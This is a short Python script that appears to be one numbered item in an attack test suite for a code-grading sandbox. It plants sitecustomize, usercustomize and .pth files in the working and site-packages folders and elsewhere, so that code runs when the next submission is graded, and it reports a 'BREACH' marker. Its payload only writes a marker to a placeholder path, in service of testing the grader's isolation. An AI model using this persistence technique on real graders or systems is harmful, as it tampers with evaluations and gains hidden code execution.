# attack: 22
# title: sitecustomize, usercustomize and .pth files for the next Python
# success: code runs when the next submission is graded
# naive: next
import contextlib
import os
import site
import sys

TEXT = 'import pathlib; pathlib.Path(r"@OUTSIDE@").write_text("reached")\n'
folders = [os.getcwd()]
if os.environ.get("HOME") == "/home/student":  # in the box only
    folders += [site.getusersitepackages(), *sys.path, *site.getsitepackages(), sys.prefix, "/tmp", "/dev/shm"]
for folder in filter(None, folders):
    with contextlib.suppress(OSError):
        os.makedirs(folder, exist_ok=True)
        for name in ("sitecustomize.py", "usercustomize.py", "x_@TOKEN@.pth"):
            with open(os.path.join(folder, name), "w") as file:
                file.write(TEXT)
            if folder in site.getsitepackages():
                print("BRE" "ACH: wrote", name, "in", folder)
